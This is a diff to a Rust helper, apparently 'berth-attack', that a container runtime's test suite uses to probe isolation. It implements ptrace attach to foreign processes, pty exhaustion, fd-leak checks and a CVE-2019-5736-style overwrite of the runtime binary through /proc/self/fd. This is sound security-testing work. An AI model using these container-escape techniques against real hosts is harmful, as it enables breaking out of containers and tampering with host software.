@@ -14,14 +14,17 @@
 //!                         (ETXTBSY expected while it runs) and O_PATH; keep the O_PATH handles
 //!                         of foreign executables (the runtime). Then, for 3 s, reopen each
 //!                         handle through /proc/self/fd O_WRONLY and write "PWNED" at offset 0
-//!                         (CVE-2019-5736).
+//!                         (CVE-2019-5736). OUT with the extension `grabbed` holds the number of
+//!                         handles held so far.
 //!                         → exe-grab grabbed=K wrote=W targets=… errors=…
 //! ptys MAX OUT [--hold]   open /dev/ptmx until it fails or MAX are open.
 //!                         → ptys opened=N err=ENOSPC|none ; --hold then pauses forever
-//! with-fds P -- PROG ARGS (on the host) exec PROG with fds 3..3+P open as memfds named
-//!                         `preserved-N`, and after them three fds a careless runtime would
-//!                         leak, none close-on-exec: a directory (/tmp), an O_PATH fd of /,
-//!                         a unix socket. Prints nothing itself.
+//! with-fds P [--dirs] -- PROG ARGS
+//!                         (on the host) exec PROG with fds 3..3+P open as memfds named
+//!                         `preserved-N` (with --dirs: the host's /tmp, O_DIRECTORY), and after
+//!                         them the fds a careless runtime would leak, none close-on-exec: a
+//!                         directory (/tmp), an O_PATH fd of /, a unix socket pair. Prints
+//!                         nothing itself.
 //! ```
 #![allow(unsafe_code)]
 
@@ -43,7 +46,8 @@ fn main() {
         ["exe-grab", stop, out] => exe_grab(Path::new(stop), Path::new(out)),
         ["ptys", max, out] => ptys(parse(max), Path::new(out), false),
         ["ptys", max, out, "--hold"] => ptys(parse(max), Path::new(out), true),
-        ["with-fds", p, "--", prog, rest @ ..] => with_fds(parse(p), prog, rest),
+        ["with-fds", p, "--", prog, rest @ ..] => with_fds(parse(p), false, prog, rest),
+        ["with-fds", p, "--dirs", "--", prog, rest @ ..] => with_fds(parse(p), true, prog, rest),
         _ => {
             eprintln!("usage: berth-attack ptrace-watch|exe-grab STOP OUT | ptys MAX OUT [--hold]");
             std::process::exit(2)
@@ -74,7 +78,9 @@ fn report(out: &Path, line: &str) {
     let tmp = out.with_extension("tmp");
     std::fs::write(&tmp, format!("{line}\n")).expect("write result");
     std::fs::rename(&tmp, out).expect("rename result");
-    println!("{line}");
+    // stdout may be a pipe nobody reads any more (a detached container): that is fine.
+    use std::io::Write;
+    let _ = writeln!(std::io::stdout(), "{line}");
 }
 
 /// Pids of the namespace, this process excluded.
@@ -115,16 +121,12 @@ fn ptrace_watch(stop: &Path, out: &Path) {
             let rc = unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) };
             if rc == 0 {
                 attached += 1;
-                let mut status = 0;
-                // SAFETY: waits for the attach stop of our own tracee; `status` is a live local.
-                unsafe { libc::waitpid(pid, &mut status, libc::__WALL) };
                 if let Ok(exe) = exe_of(pid) {
                     if foreign(&exe) {
                         leaks.push(format!("attach:{pid}:{exe}"));
                     }
                 }
-                // SAFETY: detaching our tracee, no pointers.
-                unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
+                release(pid);
             } else {
                 let e = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
                 if e == libc::EPERM || e == libc::EACCES {
@@ -160,6 +162,34 @@ fn ptrace_watch(stop: &Path, out: &Path) {
     std::process::exit(0);
 }
 
+/// Lets a tracee go: waits for the SIGSTOP of PTRACE_ATTACH (continuing past other stops,
+/// such as the SIGTRAP of an execve in flight, so the SIGSTOP is not left pending to stop the
+/// process for good after the detach), then detaches.
+fn release(pid: i32) {
+    for _ in 0..100 {
+        let mut status = 0;
+        // SAFETY: waits for our own tracee; `status` is a live local.
+        let rc = unsafe { libc::waitpid(pid, &mut status, libc::__WALL) };
+        if rc != pid || libc::WIFEXITED(status) || libc::WIFSIGNALED(status) {
+            return;
+        }
+        if libc::WIFSTOPPED(status) && libc::WSTOPSIG(status) == libc::SIGSTOP {
+            // SAFETY: detaching our stopped tracee, no pointers.
+            unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
+            return;
+        }
+        // Another stop: continue it, swallowing SIGTRAP, passing anything else on.
+        let sig = match libc::WSTOPSIG(status) {
+            libc::SIGTRAP => 0,
+            s => s,
+        };
+        // SAFETY: resuming our stopped tracee, no pointers.
+        unsafe { libc::ptrace(libc::PTRACE_CONT, pid, 0, sig) };
+    }
+    // SAFETY: as above.
+    unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
+}
+
 fn exe_grab(stop: &Path, out: &Path) {
     let mut grabbed: BTreeMap<String, OwnedFd> = BTreeMap::new();
     let mut errors: BTreeMap<String, u64> = BTreeMap::new();
@@ -189,6 +219,11 @@ fn exe_grab(stop: &Path, out: &Path) {
                         .unwrap_or_default();
                     if foreign(&target) && !grabbed.contains_key(&target) {
                         grabbed.insert(target, fd);
+                        // Progress for the test, which keeps exec'ing until something is held.
+                        let _ = std::fs::write(
+                            out.with_extension("grabbed"),
+                            grabbed.len().to_string(),
+                        );
                     }
                 }
                 Err(e) => note(&mut errors, "open-path", rx(e)),
@@ -278,15 +313,20 @@ fn place(fd: OwnedFd, target: i32) {
     }
 }
 
-fn with_fds(preserve: usize, prog: &str, rest: &[&str]) {
+fn with_fds(preserve: usize, dirs: bool, prog: &str, rest: &[&str]) {
     use std::os::unix::process::CommandExt;
     let mut next = 3;
     for n in 0..preserve {
-        let fd = rustix::fs::memfd_create(
-            format!("preserved-{}", 3 + n),
-            rustix::fs::MemfdFlags::empty(),
-        )
-        .expect("memfd_create");
+        let fd = if dirs {
+            rustix::fs::open("/tmp", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty())
+                .expect("open /tmp")
+        } else {
+            rustix::fs::memfd_create(
+                format!("preserved-{}", 3 + n),
+                rustix::fs::MemfdFlags::empty(),
+            )
+            .expect("memfd_create")
+        };
         place(fd, next);
         next += 1;
     }
